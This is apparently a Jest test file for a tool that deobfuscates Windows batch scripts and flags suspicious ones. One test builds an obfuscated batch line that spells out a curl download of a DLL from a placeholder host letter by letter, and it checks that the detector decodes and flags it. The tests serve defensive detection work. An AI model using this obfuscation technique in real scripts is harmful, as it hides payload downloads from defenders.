import { describe, expect, it } from '@jest/globals';
import { batchReader } from '../../src/code/batch.ts';
import { readShellScript } from '../../src/code/other-scripts.ts';

const alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789./:-_ ';
const spell = (text: string): string => [...text].map((letter) => `%KEY:~${alphabet.indexOf(letter)},1%`).join('');

describe('batch lines', () => {
  it('puts in the variables of the file and cuts letters out of them', () => {
    const read = batchReader();
    read('set "KEY=abcdef"');
    expect(read('%key:~2,1%%KEY:~0,2%%KEY:~-1%%KEY:~1,-3% %OTHER% %OTHER:~1,1%').text).toBe('cabfbc %OTHER% …');
  });

  it('reads a download that is spelled from letters, and says that it is', () => {
    const { spotted } = readShellScript(`@echo off\r\nset "KEY=${alphabet}"\r\n${spell('curl http://files.invalid/a.dll -o a.dll')}\r\n`, true);
    expect(spotted).toContainEqual(expect.objectContaining({ kind: 'network', detail: 'files.invalid', readAs: 'decoded' }));
    expect(spotted).toContainEqual(expect.objectContaining({ kind: 'decode-execute' }));
  });

  it('does not accuse a script that takes the date apart', () => {
    const { spotted } = readShellScript('set STAMP=%date:~6,4%%date:~3,2%%date:~0,2%\r\nset ROOT=%CD:~0,-1%\r\nnode build.js %STAMP%\r\n', true);
    expect(spotted).toEqual([]);
  });
});
